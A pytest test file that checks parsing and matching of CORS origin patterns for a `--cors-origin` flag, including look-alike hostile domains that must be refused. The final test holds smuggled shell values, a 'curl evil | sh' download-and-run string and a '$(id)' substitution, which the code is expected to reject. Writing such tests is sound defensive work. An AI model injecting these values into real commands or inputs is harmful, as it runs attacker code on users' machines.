"""Which pages a user allows by `--cors-origin`: one row a case, named by what was meant."""

import pytest

from umad.web_origin import OriginPattern, as_flag


@pytest.mark.parametrize(
    ("pattern", "allowed", "refused"),
    [
        pytest.param(
            "https://a.example",
            ["https://a.example", "https://A.example/", "https://a.example:443"],
            ["http://a.example", "https://a.example:8443", "https://a.example.evil.example"],
            id="one page",
        ),
        pytest.param("http://a.example:80", ["http://a.example"], [], id="the scheme's own port"),
        pytest.param(
            "app://obsidian.md", ["app://obsidian.md"], ["app://other", "app://"], id="Obsidian"
        ),
        pytest.param("tauri://localhost", ["tauri://localhost"], ["http://localhost"], id="Tauri"),
        pytest.param("capacitor://localhost", ["capacitor://localhost"], [], id="Capacitor"),
        pytest.param(
            "chrome-extension://abcdef",
            ["chrome-extension://abcdef"],
            ["chrome-extension://abcdee"],
            id="one extension",
        ),
        pytest.param(
            "chrome-extension://*",
            ["chrome-extension://abcdef"],
            ["moz-extension://abcdef", "https://abcdef"],
            id="every extension of a browser",
        ),
        pytest.param(
            "vscode-webview://*", ["vscode-webview://1a2b-3c"], ["vscode-file://x"], id="VS Code"
        ),
        pytest.param("app://*", ["app://obsidian.md", "app://-"], [], id="every app of a scheme"),
        pytest.param("file://", ["file://"], ["null"], id="an app's own files"),
        pytest.param(
            "http://localhost:*",
            ["http://localhost:3000", "http://localhost"],
            ["https://localhost:3000", "http://localhost.evil.example:3000", "http://localhost:x"],
            id="every dev server here",
        ),
        pytest.param(
            "http://[::1]:*", ["http://[::1]:3000"], ["http://[::2]:3000"], id="the same by IPv6"
        ),
        pytest.param(
            "https://*.example.org",
            ["https://a.example.org", "https://a.b.example.org"],
            [
                "https://example.org",
                "https://evilexample.org",
                "https://a.example.org.evil.example",
                "https://evil.example/.example.org",
                "https://evil.example#.example.org",
            ],
            id="every name below one",
        ),
        pytest.param(
            "https://app-*.example.org",
            ["https://app-17.example.org"],
            ["https://app-.evil.example", "https://app-a.b.example.org"],
            id="every preview of an app",
        ),
        pytest.param(
            "http://192.168.1.*:3000",
            ["http://192.168.1.7:3000"],
            ["http://192.168.1.evil.example:3000", "http://192.168.2.7:3000"],
            id="every machine of a network",
        ),
        pytest.param(
            "https://*",
            ["https://a.example", "https://a.example:8443"],
            ["http://a.example"],
            id="every page with TLS",
        ),
        pytest.param("*", ["https://a.example", "app://x", "file://"], ["null"], id="every page"),
    ],
)
def test_a_pattern_allows_the_pages_that_are_meant_and_no_others(
    pattern: str, allowed: list[str], refused: list[str]
) -> None:
    read = OriginPattern.read(pattern)

    assert [one for one in allowed if not read.fits(one)] == []
    assert [one for one in refused if read.fits(one)] == []


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("null", id="every sandboxed page"),
        pytest.param("localhost:3000", id="no scheme"),
        pytest.param("http://localhost*", id="a name whose end is anybody's"),
        pytest.param("https://example.*", id="a domain whose end is anybody's"),
        pytest.param("https://*org", id="half a label at the end"),
        pytest.param("https://a.example/app", id="a path"),
        pytest.param("https://me@a.example", id="a user"),
        pytest.param("http://", id="no host"),
        pytest.param("http://a.example:30*", id="half a port"),
        pytest.param("a b", id="no origin at all"),
        pytest.param("", id="nothing"),
    ],
)
def test_what_is_no_pattern_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"."):
        OriginPattern.read(text)


@pytest.mark.parametrize(
    ("origin", "flag"),
    [
        ("app://obsidian.md", "--cors-origin app://obsidian.md"),
        ("HTTP://Localhost:3000/", "--cors-origin http://localhost:3000"),
        ("chrome-extension://abcdef", "--cors-origin chrome-extension://abcdef"),
        ("null", None),
        ("http://a.example; curl evil | sh", None),
        ("http://$(id).example", None),
        ("*", None),
    ],
)
def test_the_flag_for_a_page_is_advised_only_in_plain_words(origin: str, flag: str | None) -> None:
    assert as_flag(origin) == flag
